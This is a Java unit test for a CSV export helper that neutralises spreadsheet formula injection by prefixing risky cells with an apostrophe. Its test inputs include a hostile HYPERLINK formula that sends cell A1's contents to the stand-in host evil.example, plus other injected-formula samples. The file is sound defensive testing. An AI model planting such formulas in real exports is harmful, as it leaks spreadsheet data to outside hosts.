package jp.renkei.portal.platform.text;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.io.StringWriter;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.api.Test;

class SpreadsheetCellsTest {

  @Test
  void aFormulaTypedByAResidentStaysText() throws IOException {
    StringWriter out = new StringWriter();
    CSVPrinter csv = CSVFormat.EXCEL.print(out);

    SpreadsheetCells.printRecord(
        csv,
        7L,
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd",
        "ふつうの意見 = 賛成",
        "");
    csv.flush();

    assertEquals(
        "7,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+1,'-2+3,'@SUM(A1),"
            + "'\tcmd,\"'\rcmd\",ふつうの意見 = 賛成,\r\n",
        out.toString());
  }

  @Test
  void numbersThePortalWritesPassUnchanged() {
    assertEquals(-5L, SpreadsheetCells.safe(-5L));
  }
}
